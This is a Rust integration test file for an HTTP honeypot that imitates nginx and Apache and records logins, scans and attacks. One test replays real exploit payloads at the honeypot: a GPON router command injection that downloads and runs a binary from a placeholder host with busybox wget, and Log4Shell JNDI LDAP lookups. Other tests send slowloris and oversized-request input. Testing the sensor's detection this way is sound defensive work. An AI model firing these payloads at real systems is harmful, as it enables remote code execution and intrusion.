//! The HTTP honeypot driven through the real binary by real clients: curl,
//! headless Chromium submitting the login form, nmap -sV, replayed
//! exploits, and hostile input. Its pages are compared byte for byte
//! (dates aside) with a real nginx started by the test.

mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::{Sensor, of_kind, read_events};

fn http_sensor(config: &str) -> Sensor {
    Sensor::start("http", config, tempfile::tempdir().unwrap())
}

/// Send raw bytes, read until the server closes or `wait` passes.
fn raw(port: u16, data: &[u8], wait: Duration) -> Vec<u8> {
    let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap();
    s.set_read_timeout(Some(wait)).unwrap();
    s.write_all(data).unwrap();
    let mut out = Vec::new();
    let mut buf = [0u8; 65536];
    loop {
        match s.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => out.extend_from_slice(&buf[..n]),
        }
    }
    out
}

/// Dates and ETags differ between servers and seconds; blank them.
fn normalize(resp: &[u8]) -> String {
    String::from_utf8_lossy(resp)
        .lines()
        .map(|l| {
            if l.starts_with("Date: ") {
                "Date: X"
            } else {
                l
            }
        })
        .collect::<Vec<_>>()
        .join("\n")
}

fn curl(args: &[&str]) -> String {
    let out = Command::new(mirage_testkit::require_tool("curl"))
        .args(["-s", "-S", "--max-time", "10"])
        .args(args)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "curl {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// A real nginx (Debian's) on a free loopback port serving `root`.
struct Nginx {
    dir: tempfile::TempDir,
    port: u16,
    _child: mirage_testkit::KillOnDrop,
}

impl Nginx {
    fn start(root: &std::path::Path) -> Nginx {
        let dir = tempfile::tempdir().unwrap();
        let port = mirage_testkit::free_port();
        let conf = dir.path().join("nginx.conf");
        std::fs::write(
            &conf,
            format!(
                "daemon off;\nmaster_process off;\nworker_processes 1;\npid {d}/nginx.pid;\nerror_log {d}/error.log;\nevents {{ worker_connections 256; }}\nhttp {{\n  access_log off;\n  include /etc/nginx/mime.types;\n  default_type application/octet-stream;\n  client_body_temp_path {d}/body;\n  proxy_temp_path {d}/proxy;\n  fastcgi_temp_path {d}/fcgi;\n  uwsgi_temp_path {d}/uwsgi;\n  scgi_temp_path {d}/scgi;\n  server {{ listen 127.0.0.1:{port}; root {r}; }}\n}}\n",
                d = dir.path().display(),
                r = root.display()
            ),
        )
        .unwrap();
        let nginx = if std::path::Path::new("/usr/sbin/nginx").is_file() {
            std::path::PathBuf::from("/usr/sbin/nginx")
        } else {
            mirage_testkit::require_tool("nginx")
        };
        let child = mirage_testkit::KillOnDrop::spawn(
            Command::new(nginx)
                .arg("-c")
                .arg(&conf)
                .arg("-p")
                .arg(dir.path())
                .stderr(Stdio::null()),
        );
        mirage_testkit::wait_for_port(
            format!("127.0.0.1:{port}").parse().unwrap(),
            Duration::from_secs(10),
        );
        Nginx {
            dir,
            port,
            _child: child,
        }
    }
}

/// The 404, 405 and 400 pages and their heads equal real nginx 1.22.1's
/// (keep-alive and close), and a site served from `root` has nginx's
/// static-file head.
#[test]
fn error_pages_and_heads_equal_real_nginx() {
    let www = tempfile::tempdir().unwrap();
    std::fs::write(www.path().join("index.html"), "<h1>hello</h1>\n").unwrap();
    let nginx = Nginx::start(www.path());
    let mut s = http_sensor(&format!(
        "[services.http]\nroot = \"{}\"\n",
        www.path().display()
    ));
    let reqs: [&[u8]; 5] = [
        b"GET /nope HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
        b"GET /missing.php?id=1 HTTP/1.0\r\n\r\n",
        b"POST /index.html HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\nConnection: close\r\n\r\nabc",
        b"BOGUS\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: 12x\r\n\r\n",
    ];
    for r in reqs {
        let theirs = normalize(&raw(nginx.port, r, Duration::from_secs(3)));
        let ours = normalize(&raw(s.port(), r, Duration::from_secs(3)));
        assert_eq!(ours, theirs, "request {:?}", String::from_utf8_lossy(r));
        assert!(theirs.contains("nginx/1.22.1"), "{theirs}");
    }
    // A static file: same head apart from Last-Modified and ETag values.
    let r = b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";
    let names = |t: &str| -> Vec<String> {
        t.lines()
            .map(|l| l.split(':').next().unwrap_or("").to_owned())
            .collect()
    };
    let theirs = normalize(&raw(nginx.port, r, Duration::from_secs(3)));
    let ours = normalize(&raw(s.port(), r, Duration::from_secs(3)));
    assert_eq!(names(&ours), names(&theirs));
    assert!(ours.ends_with("<h1>hello</h1>"), "{ours}");
    drop(nginx.dir);
    s.stop();
    let events = read_events(&s.event_dir());
    let cmds = of_kind(&events, "command");
    assert_eq!(
        cmds.len(),
        4,
        "the two malformed requests are protocol errors"
    );
    let get = cmds
        .iter()
        .find(|e| e["args"][0] == "/missing.php")
        .unwrap();
    assert_eq!(get["command"], "get");
    assert_eq!(get["args"][1], "id=1");
    assert_eq!(get["raw"], "GET /missing.php?id=1 HTTP/1.0");
    assert_eq!(get["details"]["status"], 404);
    assert_eq!(get["error"], true);
    let post = cmds.iter().find(|e| e["command"] == "post").unwrap();
    assert_eq!(post["details"]["body"], "abc");
    assert_eq!(post["details"]["body_len"], 3);
    assert_eq!(
        post["details"]["headers"][0],
        serde_json::json!(["Host", "x"])
    );
    assert_eq!(of_kind(&events, "protocol.error").len(), 2);
}

/// curl: the built-in pages, a posted login form and Basic auth are
/// recorded as auth attempts with the credentials.
#[test]
fn curl_pages_login_form_and_basic_auth() {
    let mut s = http_sensor("");
    let base = format!("http://127.0.0.1:{}", s.port());
    let head = curl(&["-i", &format!("{base}/")]);
    assert!(
        head.starts_with("HTTP/1.1 200 OK\r\nServer: nginx/1.22.1\r\nDate: "),
        "{head}"
    );
    let login = curl(&[&format!("{base}/login")]);
    assert!(login.contains("<form id=\"login\" method=\"post\" action=\"/login\">"));
    let denied = curl(&[
        "-d",
        "username=admin&password=Winter2026%21",
        &format!("{base}/login"),
    ]);
    assert!(denied.contains("Invalid username or password."));
    let basic = curl(&["-i", "-u", "tomcat:s3cret", &format!("{base}/manager/html")]);
    assert!(
        basic.starts_with("HTTP/1.1 401 Unauthorized\r\n"),
        "{basic}"
    );
    assert!(basic.contains("\r\nWWW-Authenticate: Basic realm=\"Restricted\"\r\n"));
    assert!(basic.contains("<title>401 Authorization Required</title>"));
    s.stop();
    let events = read_events(&s.event_dir());
    let auth = of_kind(&events, "auth.attempt");
    assert_eq!(auth.len(), 2, "{auth:?}");
    assert_eq!(auth[0]["method"], "http-form");
    assert_eq!(auth[0]["username"], "admin");
    assert_eq!(auth[0]["password"], "Winter2026!");
    assert_eq!(auth[0]["result"], "failure");
    assert_eq!(auth[0]["details"]["path"], "/login");
    assert_eq!(auth[1]["method"], "http-basic");
    assert_eq!(auth[1]["username"], "tomcat");
    assert_eq!(auth[1]["password"], "s3cret");
    assert!(auth.iter().all(|e| e["src_ip"] == "127.0.0.1"));
}

/// Headless Chromium loads a page whose script fills and submits the
/// login form (in a same-origin frame); the browser's POST becomes an
/// `auth.attempt` with what was typed.
#[test]
fn chromium_submits_the_login_form() {
    let chromium = mirage_testkit::require_tool("chromium");
    let www = tempfile::tempdir().unwrap();
    std::fs::write(
        www.path().join("auto.html"),
        "<!DOCTYPE html><html><body><iframe id=\"f\" src=\"/login\"></iframe><script>\nvar done = false;\ndocument.getElementById('f').onload = function () {\n  if (done) { document.title = 'submitted'; return; }\n  done = true;\n  var d = this.contentDocument;\n  d.getElementById('username').value = 'browser-user';\n  d.getElementById('password').value = 'p@ss w0rd';\n  d.getElementById('login').submit();\n};\n</script></body></html>\n",
    )
    .unwrap();
    let mut s = http_sensor(&format!(
        "[services.http]\nroot = \"{}\"\n",
        www.path().display()
    ));
    let profile = tempfile::tempdir().unwrap();
    let out = Command::new(chromium)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--no-first-run",
            "--virtual-time-budget=10000",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg("--dump-dom")
        .arg(format!("http://127.0.0.1:{}/auto.html", s.port()))
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .output()
        .unwrap();
    let dom = String::from_utf8_lossy(&out.stdout);
    // Wait for the POST to be recorded (the browser may exit first).
    let deadline = Instant::now() + Duration::from_secs(20);
    let attempt = loop {
        let events = read_events(&s.event_dir());
        if let Some(a) = of_kind(&events, "auth.attempt").first() {
            break (*a).clone();
        }
        assert!(Instant::now() < deadline, "no auth.attempt; dom: {dom}");
        std::thread::sleep(Duration::from_millis(200));
    };
    assert_eq!(attempt["method"], "http-form");
    assert_eq!(attempt["username"], "browser-user");
    assert_eq!(attempt["password"], "p@ss w0rd");
    s.stop();
    let events = read_events(&s.event_dir());
    let post = of_kind(&events, "command")
        .into_iter()
        .find(|e| e["command"] == "post")
        .cloned()
        .unwrap();
    let headers = post["details"]["headers"].as_array().unwrap();
    let ua = headers
        .iter()
        .find(|h| h[0].as_str().unwrap().eq_ignore_ascii_case("user-agent"))
        .unwrap();
    assert!(ua[1].as_str().unwrap().contains("Chrome"), "{ua}");
}

/// Replayed exploits: the GPON diag_Form POST, a Log4Shell header and a
/// `.env` probe are `attack` events with their technique, and the request
/// that carried each is tagged.
#[test]
fn replayed_exploits_are_attacks() {
    let mut s = http_sensor("");
    let base = format!("http://127.0.0.1:{}", s.port());
    curl(&[
        "-X",
        "POST",
        "--data-binary",
        "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.7/mips+-O+->/tmp/gpon80;sh+/tmp/gpon80`&ipv=0",
        &format!("{base}/GponForm/diag_Form?images/"),
    ]);
    curl(&[
        "-H",
        "X-Api-Version: ${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/aWQ=}",
        "-A",
        "${jndi:ldap://198.51.100.7/a}",
        &format!("{base}/"),
    ]);
    curl(&[&format!("{base}/.env")]);
    curl(&["-A", "Mozilla/5.0 zgrab/0.x", &format!("{base}/")]);
    s.stop();
    let events = read_events(&s.event_dir());
    let attacks = of_kind(&events, "attack");
    let techniques: Vec<&str> = attacks
        .iter()
        .map(|a| a["technique"].as_str().unwrap())
        .collect();
    for t in [
        "http.gpon_rce",
        "http.shell_injection",
        "http.log4shell",
        "http.env_file",
    ] {
        assert!(techniques.contains(&t), "{t} missing from {techniques:?}");
    }
    let log4 = attacks
        .iter()
        .find(|a| a["technique"] == "http.log4shell")
        .unwrap();
    assert!(
        log4["evidence"]["where"]
            .as_str()
            .unwrap()
            .starts_with("header ")
    );
    let tagged = of_kind(&events, "command")
        .into_iter()
        .filter(|e| {
            e["tags"]
                .as_array()
                .is_some_and(|t| t.contains(&"attack".into()))
        })
        .count();
    assert_eq!(tagged, 3);
    let zgrab = of_kind(&events, "command")
        .into_iter()
        .find(|e| {
            e["tags"]
                .as_array()
                .is_some_and(|t| t.contains(&"zgrab".into()))
        })
        .unwrap();
    assert_eq!(zgrab["tags"][0], "scanner");
}

/// nmap -sV names nginx and its version, and its probes are recorded.
#[test]
fn nmap_names_nginx_and_version() {
    let mut s = http_sensor("");
    let report = common::nmap_sv(None, s.port(), &["--version-intensity", "2"]);
    let line = common::nmap_port_line(&report, s.port());
    assert!(
        line.contains("http") && line.contains("nginx 1.22.1"),
        "{line}"
    );
    s.stop();
    let events = read_events(&s.event_dir());
    assert!(!of_kind(&events, "command").is_empty());
}

/// Hostile input: oversized headers, a bogus Content-Length, an endless
/// chunked body and slowloris connections get nginx's answers or a cut,
/// pipelined requests are answered in order, and the sensor keeps serving
/// within its memory bounds.
#[test]
fn hostile_input_leaves_the_sensor_responsive() {
    let mut s = http_sensor("[services.http]\nrequest_timeout_secs = 2\n");
    let p = s.port();
    let w = Duration::from_secs(5);
    let big = [
        b"GET / HTTP/1.1\r\nX: ".as_slice(),
        &[b'a'; 20_000],
        b"\r\n\r\n",
    ]
    .concat();
    let r = raw(p, &big, w);
    assert!(
        r.starts_with(b"HTTP/1.1 400 Bad Request\r\n"),
        "{}",
        String::from_utf8_lossy(&r)
    );
    let long_uri = [b"GET /".as_slice(), &[b'a'; 20_000], b" HTTP/1.1\r\n\r\n"].concat();
    let r = raw(p, &long_uri, w);
    assert!(r.starts_with(b"HTTP/1.1 414 Request-URI Too Large\r\n"));
    let r = raw(
        p,
        b"POST / HTTP/1.1\r\nContent-Length: 18446744073709551616\r\n\r\n",
        w,
    );
    assert!(r.starts_with(b"HTTP/1.1 400 Bad Request\r\n"));
    let r = raw(p, b"POST / HTTP/1.1\r\nContent-Length: 5000000\r\n\r\n", w);
    assert!(r.starts_with(b"HTTP/1.1 413 Request Entity Too Large\r\n"));
    // An endless chunked body: cut at max_body_bytes with 413.
    {
        let mut c = TcpStream::connect(("127.0.0.1", p)).unwrap();
        c.set_read_timeout(Some(w)).unwrap();
        c.write_all(b"POST /login HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n")
            .unwrap();
        let chunk = [b"4000\r\n".as_slice(), &[b'z'; 0x4000], b"\r\n"].concat();
        let mut sent = 0;
        while sent < 4 * 1024 * 1024 {
            if c.write_all(&chunk).is_err() {
                break;
            }
            sent += chunk.len();
        }
        let mut r = Vec::new();
        let _ = c.read_to_end(&mut r);
        // (Loopback buffers may absorb all of `sent` after the server
        // stopped reading; what matters is the answer and the cut.)
        let _ = sent;
        // The 413 may be lost to the reset a close with unread input causes.
        assert!(
            r.is_empty() || r.starts_with(b"HTTP/1.1 413 "),
            "{}",
            String::from_utf8_lossy(&r)
        );
    }
    // Slowloris: 50 connections that never finish their head are cut
    // after the request timeout.
    let mut slow: Vec<TcpStream> = (0..50)
        .map(|_| {
            let mut c = TcpStream::connect(("127.0.0.1", p)).unwrap();
            c.write_all(b"GET / HTTP/1.1\r\nX-a: b\r\n").unwrap();
            c.set_read_timeout(Some(Duration::from_secs(8))).unwrap();
            c
        })
        .collect();
    // Meanwhile ordinary (pipelined) requests are served, in order.
    let r = raw(
        p,
        b"GET /a HTTP/1.1\r\nHost: x\r\n\r\nGET /login HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
        w,
    );
    let text = String::from_utf8_lossy(&r);
    let first = text.find("404 Not Found").unwrap();
    let second = text.find("HTTP/1.1 200 OK").unwrap();
    assert!(first < second);
    let start = Instant::now();
    for c in &mut slow {
        let _ = c.write_all(b"X-b: c\r\n");
        let mut b = [0u8; 16];
        // EOF (or reset) once the sensor cuts it.
        assert!(matches!(c.read(&mut b), Ok(0) | Err(_)));
    }
    assert!(start.elapsed() < Duration::from_secs(8));
    let r = raw(p, b"GET / HTTP/1.0\r\n\r\n", w);
    assert!(r.starts_with(b"HTTP/1.1 200 OK\r\n"));
    let (_, peak) = s.rss_kib();
    assert!(peak < 200 * 1024, "peak RSS {peak} KiB");
    s.stop();
    let events = read_events(&s.event_dir());
    assert!(of_kind(&events, "protocol.error").len() >= 5 + 50);
}

/// The Apache flavour: Apache's header order and error page.
#[test]
fn apache_flavour_error_page() {
    let s = http_sensor("[services.http]\nflavor = \"apache\"\n");
    let r = raw(
        s.port(),
        b"GET /nope HTTP/1.1\r\nHost: www.example.test\r\nConnection: close\r\n\r\n",
        Duration::from_secs(3),
    );
    let t = normalize(&r);
    assert!(
        t.starts_with(
            "HTTP/1.1 404 Not Found\nDate: X\nServer: Apache/2.4.62 (Debian)\nContent-Length: "
        ),
        "{t}"
    );
    assert!(t.contains("\nConnection: close\nContent-Type: text/html; charset=iso-8859-1\n\n<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\">\n<html><head>\n<title>404 Not Found</title>"));
    assert!(t.contains("<address>Apache/2.4.62 (Debian) Server at www.example.test Port "));
}
